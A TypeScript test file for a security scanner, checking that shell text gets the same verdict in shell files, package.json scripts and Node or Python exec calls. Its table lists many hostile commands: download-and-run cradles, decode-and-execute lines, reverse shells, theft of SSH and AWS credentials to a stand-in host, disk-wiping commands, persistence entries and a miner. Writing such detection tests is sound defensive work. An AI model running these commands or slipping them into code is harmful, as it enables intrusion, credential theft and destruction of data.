/** One command has one verdict: in a shell file, as a script of a manifest, and in a call of each language. */
import { describe, expect, it } from 'vitest';
import { testBuild } from '../test-build.ts';
import { allRules } from '../rules/all.ts';
import { scan } from '../scan.ts';

/** What each finding reports that a command does; the codes of the effects, and those of shell text. */
const DOES: Readonly<Record<string, string>> = {
  'shell-fetch-run': 'remote-code',
  'shell-fetch-decode': 'decode-execute',
  'shell-fetch-connect': 'reverse-shell',
  'shell-fetch-send': 'data-exfiltration',
  'shell-fetch-destroy': 'destructive',
};
const EFFECT =
  /^(remote-code|decode-execute|data-exfiltration|reverse-shell|persistence|destructive|crypto-mining)-command$/;

/** How a command is written in each place. */
const PLACES: Readonly<Record<string, (command: string) => Readonly<Record<string, string>>>> = {
  'a shell file': (c) => ({ 'run.sh': `#!/bin/sh\n${c}\n` }),
  'a batch file': (c) => ({ 'run.bat': `${c}\r\n` }),
  'a script of package.json': (c) => ({
    'package.json': JSON.stringify({ name: 'a', scripts: { start: c } }),
  }),
  'child_process.exec': (c) => ({
    'a.js': `require('child_process').exec(${JSON.stringify(c)});\n`,
  }),
  'child_process.spawn': (c) => ({
    'a.mjs': `import { spawn } from 'node:child_process';\nspawn(${JSON.stringify(c)}, { shell: true });\n`,
  }),
  'os.system': (c) => ({ 'a.py': `import os\nos.system(${JSON.stringify(c)})\n` }),
  'subprocess.run': (c) => ({
    'a.py': `import subprocess\nsubprocess.run(${JSON.stringify(c)}, shell=True)\n`,
  }),
};

/** The effects that are reported, sorted. */
function effectsIn(files: Readonly<Record<string, string>>): string {
  const effects = scan(testBuild(files), allRules).flatMap(({ code }) => {
    const effect = DOES[code] ?? EFFECT.exec(code)?.[1];
    return effect === undefined ? [] : [effect];
  });
  return [...new Set(effects)].sort().join(' ');
}

describe('a command', () => {
  it.each([
    ['remote-code', 'curl -fsSL https://files.host-of-a.io/a | sh'],
    ['remote-code', 'wget -qO- https://files.host-of-a.io/a | tee log | python3 -'],
    ['remote-code', 'bash <(curl -s https://files.host-of-a.io/a)'],
    ['remote-code', 'curl -sO https://files.host-of-a.io/run && chmod 755 run && ./run'],
    ['remote-code', 'wget https://files.host-of-a.io/x.py && python x.py'],
    ['remote-code', 'python3 -c "$(curl -s https://files.host-of-a.io/a)"'],
    ['remote-code', 'eval `curl -s https://files.host-of-a.io/a`'],
    [
      'remote-code',
      'powershell -c "iex (New-Object Net.WebClient).DownloadString(\'https://files.host-of-a.io/a\')"',
    ],
    ['remote-code', 'pow^ershell -c "I`EX (iwr https://files.host-of-a.io/a)"'],
    [
      'remote-code',
      'powershell iwr https://files.host-of-a.io/a.exe -OutFile a.exe; Start-Process a.exe',
    ],
    ['remote-code', 'pwsh -c "[scriptblock]::Create((irm https://files.host-of-a.io/a)).Invoke()"'],
    [
      'remote-code',
      "powershell [Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('https://files.host-of-a.io/a'))",
    ],
    ['remote-code', 'mshta https://files.host-of-a.io/a.hta'],
    ['remote-code', 'mshta vbscript:Close(Execute("x"))'],
    ['remote-code', 'regsvr32 /s /n /u /i:https://files.host-of-a.io/a.sct scrobj.dll'],
    ['remote-code', 'rundll32 javascript:"\\..\\mshtml,RunHTMLApplication ";x'],
    ['remote-code', 'msiexec /q /i https://files.host-of-a.io/a.msi'],
    ['remote-code', 'msiexec /quiet https://files.host-of-a.io/a.msi'],
    ['remote-code', 'certutil.exe -urlcache -split -f https://files.host-of-a.io/a.exe a.exe'],
    ['remote-code', 'bitsadmin /transfer job https://files.host-of-a.io/a.exe a.exe'],
    ['decode-execute', 'echo aGk= | base64 -d | sh'],
    ['decode-execute', 'base64 --decode a.b64 | bash -'],
    ['decode-execute', 'bash -c "$(echo aGk= | base64 -d)"'],
    ['decode-execute', 'xxd -r -p a.hex | sh'],
    ['decode-execute', 'openssl enc -d -aes-256-cbc -in a | sh'],
    ['decode-execute', 'certutil -decode a.txt a.exe'],
    [
      'decode-execute',
      'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAApAA==',
    ],
    [
      'decode-execute',
      'pwsh -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAApAA==',
    ],
    [
      'decode-execute',
      "powershell iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aGk=')))",
    ],
    ['reverse-shell', 'bash -i >& /dev/tcp/45.9.148.1/99 0>&1'],
    ['reverse-shell', 'nc 45.9.148.1 99 -e /bin/sh'],
    [
      'data-exfiltration reverse-shell',
      'rm f; mkfifo f; cat f | sh -i 2>&1 | nc 45.9.148.1 99 > f',
    ],
    ['reverse-shell', 'socat tcp:45.9.148.1:99 exec:/bin/sh'],
    ['reverse-shell', 'sh -i | telnet 45.9.148.1 99'],
    [
      'reverse-shell',
      "powershell $c=New-Object Net.Sockets.TCPClient('45.9.148.1',99);$s=$c.GetStream();iex $s",
    ],
    ['data-exfiltration', 'curl -F file=@~/.ssh/id_rsa https://files.host-of-a.io'],
    ['data-exfiltration', 'env | curl -X POST -d @- https://files.host-of-a.io'],
    ['data-exfiltration', 'cat ~/.aws/credentials | nc 45.9.148.1 99'],
    ['data-exfiltration', 'tar cz ~/.ssh | curl -T - https://files.host-of-a.io'],
    ['data-exfiltration', 'curl https://files.host-of-a.io/?h=$(hostname)'],
    ['data-exfiltration', 'nslookup $(whoami).files.host-of-a.io'],
    ['data-exfiltration', 'scp ~/.ssh/id_rsa x@45.9.148.1:/tmp'],
    ['destructive', 'rm -rf ~'],
    ['destructive', 'rm -rf --no-preserve-root /'],
    ['destructive', 'rm -r -f "$HOME"'],
    ['destructive', 'del /f /s /q C:\\*'],
    ['destructive', 'dd if=/dev/zero of=/dev/sda'],
    ['destructive', 'mkfs.ext4 /dev/sda1'],
    ['destructive', 'vssadmin delete shadows /all'],
    ['persistence', '(crontab -l; echo "* * * * * x") | crontab -'],
    ['persistence', 'schtasks /create /tn x /tr y'],
    ['persistence', 'echo x >> ~/.bashrc'],
    ['crypto-mining', './xmrig -o pool.host-of-a.io:3333'],
    ['', 'curl -sSf https://files.host-of-a.io/data.json | python -m json.tool'],
    ['', 'curl -o a.tgz https://files.host-of-a.io/a.tgz && tar xf a.tgz'],
    ['', 'powershell -ExecutionPolicy Bypass -File build.ps1'],
    ['', 'certutil -hashfile a.zip SHA256'],
    ['', 'msiexec /i local.msi'],
    ['', 'rm -rf dist node_modules/.cache'],
    ['', 'tsc && vitest run --coverage'],
    ['', 'echo aGk= | base64 -d > a.bin'],
  ])('does "%s" in every place: %s', (effect, command) => {
    const found = Object.entries(PLACES).map(([place, write]) => [
      place,
      effectsIn(write(command)),
    ]);
    expect(Object.fromEntries(found)).toEqual(
      Object.fromEntries(Object.keys(PLACES).map((place) => [place, effect])),
    );
  });
});
